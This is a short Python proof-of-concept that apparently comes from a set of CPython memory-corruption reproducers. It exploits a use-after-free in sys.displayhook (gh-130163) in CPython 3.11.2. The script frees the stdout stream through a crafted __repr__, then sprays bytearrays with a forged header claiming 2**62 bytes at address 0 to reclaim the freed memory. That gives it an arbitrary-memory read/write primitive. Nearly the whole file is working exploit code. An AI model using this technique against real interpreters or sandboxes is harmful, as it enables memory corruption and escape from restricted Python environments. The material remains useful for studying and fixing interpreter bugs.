# family: wall (memory: gh-130163, sys.displayhook holding sys.stdout borrowed)   goal: memory   interpreter: /usr/bin/python3
# print's sibling (X63) in sys.displayhook: CPython 3.11.2 takes sys.stdout borrowed,
# writes repr(value) and then "\n" to it. The value's __repr__ puts the real stream
# back: the program's stream (an 80-byte block) is held only by the bound write method
# of the first write, and is freed when that write returns. The newline's write then
# calls Out.write on the freed object, which takes its block back with a bytearray
# buffer holding a fake bytearray header (2**62 bytes at address 0): `self` becomes
# that bytearray (MEMORY-OVERWRITTEN). The wall's displayhook holds the stream.
import sys
keep = []
W = lambda v: v.to_bytes(8, "little")
FAKE = (W(0) + W(0) + W(1 << 40) + W(id(bytearray)) + W(1 << 62) + W(1 << 62)
        + W(0) + W(0) + W(1))[:73]
real = sys.stdout
phase = [0]
got = []
class Out:
    __slots__ = ("a", "b", "c", "d", "e", "f")
    def write(self, s):
        if phase[0] == 2:
            phase[0] = 3
            for _ in range(4096):
                keep.append(bytearray(FAKE))
                if type(self) is bytearray:
                    break
            got.append(self)
        elif phase[0] == 1:
            phase[0] = 2
        return len(s)
class X:
    def __repr__(self):
        sys.stdout = real
        phase[0] = 1
        return "x"
sys.stdout = Out()
try:
    sys.__displayhook__(X())
except AttributeError:
    pass
sys.stdout = real
if got and type(got[0]) is bytearray and len(got[0]) == 1 << 62:
    print("MEMORY-OVERWRITTEN: the freed stream is a bytearray of 2**62 bytes")
else:
    print("displayhook wrote to a live stream", phase[0])
